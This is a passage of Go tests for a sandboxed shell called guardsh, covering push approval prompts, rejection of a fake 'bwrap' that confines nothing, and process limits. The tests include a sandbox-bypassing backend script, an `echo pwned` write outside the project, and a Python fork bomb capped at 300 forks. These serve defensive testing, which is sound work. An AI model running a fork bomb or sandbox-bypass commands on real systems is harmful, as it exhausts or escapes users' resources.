				git := exec.Command("git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "x")
				git.Dir = f.project
				if out, err := git.CombinedOutput(); err != nil {
					t.Fatalf("git commit: %v %s", err, out)
				}
				// a non-interactive guardsh prompts on the terminal only where
				// the user's own file says so
				optInTerminalPrompt(t, f.home)
				cmd := exec.Command(f.bin, "-c", fmt.Sprintf(`git push http://%s/repo.git HEAD:main; echo "RC $?"`, l.tcp))
				cmd.Dir = f.project
				cmd.Env = f.env(backend, "GUARDSH_MODE=default", "GIT_TERMINAL_PROMPT=0")
				ptmx, err := pty.Start(cmd)
				if err != nil {
					t.Fatal(err)
				}
				defer ptmx.Close()
				var mu sync.Mutex
				var out bytes.Buffer
				go func() {
					buf := make([]byte, 4096)
					for {
						n, err := ptmx.Read(buf)
						mu.Lock()
						out.Write(buf[:n])
						mu.Unlock()
						if err != nil {
							return
						}
					}
				}()
				prompts := 0
				deadline := time.Now().Add(20 * time.Second)
				for prompts < len(tc.keys) && time.Now().Before(deadline) {
					mu.Lock()
					n := strings.Count(out.String(), "[d] deny:")
					mu.Unlock()
					if n > prompts {
						ptmx.Write([]byte{tc.keys[prompts]})
						prompts++
					}
					time.Sleep(20 * time.Millisecond)
				}
				done := make(chan error, 1)
				go func() { done <- cmd.Wait() }()
				select {
				case <-done:
				case <-time.After(20 * time.Second):
					cmd.Process.Kill()
					t.Fatal("guardsh did not finish")
				}
				mu.Lock()
				s := out.String()
				mu.Unlock()
				if prompts != len(tc.keys) {
					t.Fatalf("saw %d prompts, want %d:\n%s", prompts, len(tc.keys), s)
				}
				if !strings.Contains(s, "sandbox.escalate") {
					t.Errorf("the privileged side did not ask:\n%s", s)
				}
				if got := l.hits.Load() > 0; got != tc.reached {
					t.Errorf("listener reached: %v, want %v\n%s", got, tc.reached, s)
				}
			})
		}
	}
}

// TestSandboxProbeRejectsLyingBackend: a "bwrap" that confines nothing
// (it drops its options and runs the command) must fail the probe, so
// guardsh refuses to run commands rather than trust it.
func TestSandboxProbeRejectsLyingBackend(t *testing.T) {
	backendsUnderTest(t)
	f := newFixture(t)
	bin := filepath.Join(f.base, "fakebin")
	os.MkdirAll(bin, 0o755)
	os.WriteFile(filepath.Join(bin, "bwrap"), []byte("#!/bin/sh\nwhile [ \"$1\" != -- ]; do shift; done\nshift\nexec \"$@\"\n"), 0o755)
	env := f.env("bwrap", "GUARDSH_SANDBOX_NOCACHE=1")
	for i, e := range env {
		if strings.HasPrefix(e, "PATH=") {
			env[i] = "PATH=" + bin + ":" + strings.TrimPrefix(e, "PATH=")
		}
	}
	cmd := exec.Command(f.bin, "--doctor")
	cmd.Dir, cmd.Env = f.project, env
	out, err := cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(out), "probe bwrap: FAILED") || !strings.Contains(string(out), "FAIL write outside project fails") {
		t.Errorf("doctor trusted a bwrap that confines nothing: %v\n%s", err, out)
	}
	cmd = exec.Command(f.bin, "-c", `echo pwned > "$OUT/lying"`)
	cmd.Dir, cmd.Env = f.project, env
	out, err = cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(out), "--no-sandbox") {
		t.Errorf("a command ran on a backend that failed its probe: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(f.outside, "lying")); err == nil {
		t.Error("the command wrote outside")
	}
}

// TestSandboxForkBomb: a fork bomb in a sandboxed session stops at the
// session's process limit (GUARDSH_SANDBOX_PROCS lowers it to 64 here, so
// the test never holds more than that many processes). Bounded on every
// side: the bomb forks at most 300 times, each child sleeps 5 s and is
// killed by its parent, and the whole run has a 60 s timeout.
func TestSandboxForkBomb(t *testing.T) {
	backends := backendsUnderTest(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 not installed")
	}
	if d := sandbox.DescribeProcLimit(); strings.HasPrefix(d, "none") {
		t.Skipf("no process limit available here: %s", d)
	}
	const bomb = `python3 -c '
import os, signal, time
kids = []
for i in range(300):
    try:
        pid = os.fork()
    except OSError as e:
        print("fork failed after", len(kids))
        break
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    kids.append(pid)
else:
    print("all", len(kids))
for k in kids:
    os.kill(k, signal.SIGKILL)
for k in kids:
    os.waitpid(k, 0)
'`
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			f := newFixture(t)
			env := f.env(backend, "GUARDSH_SANDBOX_PROCS=64")
			cmd := exec.Command(f.bin, "-c", bomb)
			cmd.Dir, cmd.Env = f.project, env
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			select {
			case <-done:
			case <-time.After(60 * time.Second):
				syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
				cmd.Process.Kill()
				<-done
				t.Fatalf("the session did not end in 60 s:\n%s", out.String())
			}
			var n int
			if _, err := fmt.Sscanf(out.String()[strings.Index(out.String()+"fork failed after", "fork failed after"):], "fork failed after %d", &n); err != nil || n >= 64 {
				t.Errorf("the fork bomb was not stopped by the session's limit of 64:\n%s", out.String())
			}
			t.Logf("%s: %s", backend, strings.TrimSpace(out.String()))
		})
	}
}
